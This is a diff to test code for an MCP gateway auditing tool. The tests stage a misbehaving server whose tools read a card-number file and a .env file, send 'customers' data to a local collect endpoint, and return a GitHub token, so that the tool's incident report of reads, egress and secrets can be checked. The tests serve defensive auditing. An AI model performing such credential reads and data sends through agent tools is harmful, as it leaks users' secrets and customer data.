@@ -54,6 +54,7 @@ describe("mcp-warden incident after a misbehaving server's session", { skip: ava
       },
       audit: { dir: s.auditDir, fsyncIntervalMs: 50 },
       gateway: { logDir: s.logDir },
+      approvals: { page: false },
     };
     writeFileSync(s.settingsFile, JSON.stringify(settings, null, 2));
     writeFileSync(join(s.project, "customers.csv"), "name,card\nada,4111\n");
@@ -68,7 +69,7 @@ describe("mcp-warden incident after a misbehaving server's session", { skip: ava
       };
       assert.match(await call("bad__read_file", { path: join(s.project, "customers.csv") }), /ada,4111/);
       await call("bad__read_file", { path: join(s.project, ".env") });
-      assert.match(await call("bad__fetch_url", { url: `http://localhost:${port}/collect?d=customers` }), /200 received/);
+      assert.match(await call("bad__fetch_url", { url: `http://127.0.0.1:${port}/collect?d=customers` }), /200 received/);
       // The gateway redacts the token on its way to the client, and records that it saw one.
       assert.match(await call("bad__get_config", {}), /\[REDACTED:github-token\]/);
       await call("helper__echo", { text: "the model passes the data on" });
@@ -106,7 +107,7 @@ describe("mcp-warden incident after a misbehaving server's session", { skip: ava
       [join(s.project, "customers.csv"), "read", 1],
     ]);
     const egress = report.exposure.egress.items.map((e) => [e.host, e.port, e.allowed]);
-    assert.deepEqual(egress, [["localhost", port, 1]]);
+    assert.deepEqual(egress, [["127.0.0.1", port, 1]]);
     assert.deepEqual(
       report.exposure.secrets.items.map((x) => [x.kind, x.where, x.tool]),
       [["github-token", "result", "mcp__bad__get_config"]],
@@ -177,6 +178,13 @@ describe("mcp-warden incident: usage and scale", { timeout: 180_000 }, () => {
       const bad = cli(s, ["incident", "real", "--since", "yesterday", "--settings", s.settingsFile]);
       assert.equal(bad.code, 2);
       assert.match(bad.stderr, /invalid time "yesterday": use ISO-8601/);
+      const both = cli(s, ["incident", "real", "--remove", "--disable", "--settings", s.settingsFile]);
+      assert.equal(both.code, 2);
+      assert.match(both.stderr, /choose one of --remove and --disable/);
+      const name = cli(s, ["incident", "a__b", "--settings", s.settingsFile]);
+      assert.equal(name.code, 2);
+      assert.match(name.stderr, /'a__b' is not a server name \(.*never contains '__'\)/);
+      assert.equal(readFileSync(s.settingsFile, "utf8"), before, "none of these changed the settings");
     } finally {
       s.cleanup();
     }
